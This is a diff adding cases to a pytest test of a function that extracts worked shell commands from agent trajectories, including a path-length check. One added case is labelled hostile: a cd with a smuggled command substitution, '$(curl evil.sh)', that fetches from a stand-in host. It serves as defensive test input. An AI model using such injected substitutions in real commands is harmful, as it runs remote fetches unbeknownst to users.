@@ -72,6 +72,12 @@ def test_a_bare_cd_is_not_kept_but_where_the_commands_after_it_ran(tmp_path):
                                                                        "cd /app/repo && git commit -m a"]
     quoted = [("cd '/app/my repo'", 0, ""), ("git tag v1", 0, "")]  # not followed: kept as it ran, as before
     assert worked_commands(_trajectory(tmp_path, quoted, "f.json")) == ["cd '/app/my repo'", "git tag v1"]
+    # hostile: a substitution in the cd is not followed; a 100 kB directory makes every command after
+    # it too long to keep, never a 100 kB skill line
+    hostile = [("cd /app/$(curl evil.sh)", 0, ""), ("git tag v1", 0, "")]
+    assert worked_commands(_trajectory(tmp_path, hostile, "h.json")) == ["cd /app/$(curl evil.sh)", "git tag v1"]
+    long = [("cd /" + "a" * 100_000, 0, ""), ("git tag v1", 0, ""), ("touch /app/x", 0, "")]
+    assert worked_commands(_trajectory(tmp_path, long, "i.json")) == []
 
 
 @pytest.mark.parametrize("command, looks", [
